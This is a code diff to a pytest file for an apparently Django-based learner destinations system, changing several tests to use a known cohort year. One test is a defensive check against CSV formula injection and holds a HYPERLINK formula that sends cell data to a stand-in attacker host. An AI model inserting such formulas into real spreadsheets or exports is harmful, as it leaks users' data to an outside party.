@@ -46,7 +46,7 @@ from qic.learners.models import Learner
 from qic.organisations.models import Provider, Role, User
 from tests.conftest import Cast
 from tests.destinations import analysis_helpers as ah
-from tests.destinations.entry_factories import destination, last_cohort, leaver, today, upn
+from tests.destinations.entry_factories import destination, known_cohort, last_cohort, leaver, today, upn
 from tests.factories import make_member
 
 pytestmark = pytest.mark.django_db
@@ -146,7 +146,7 @@ def test_thousands_of_bad_rows_make_a_bounded_report_that_says_how_many(cast: Ca
 
 
 def test_thousands_of_updates_are_listed_up_to_the_preview_size(cast: Cast) -> None:
-    year = last_cohort()
+    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
     learners = ah.leavers(cast.p1, year, 250)
     on = dt.date(year + 1, 9, 1)
     Destination.objects.bulk_create(
@@ -652,7 +652,7 @@ def test_bad_values_are_reported_by_line_and_column_and_other_schools_upns_read_
 
 
 def test_a_formula_in_where_stays_text_escaped_on_the_page_and_out_of_every_csv(cast: Cast) -> None:
-    year = last_cohort()
+    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
     learner = leaver(cast.p1, 7, year=year)
     formula = '=HYPERLINK("http://e.vil/?"&A1,"Click")'
     quoted = formula.replace('"', '""')
@@ -669,7 +669,7 @@ def test_a_formula_in_where_stays_text_escaped_on_the_page_and_out_of_every_csv(
 
 
 def test_duplicate_rows_are_left_out_and_rows_that_disagree_refused(cast: Cast) -> None:
-    year = last_cohort()
+    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
     leaver(cast.p1, 7, year=year)
     row = f"{upn(7)},FE,01/09/{year + 1},yes"
     leader = signed_in(cast.p1_leader)
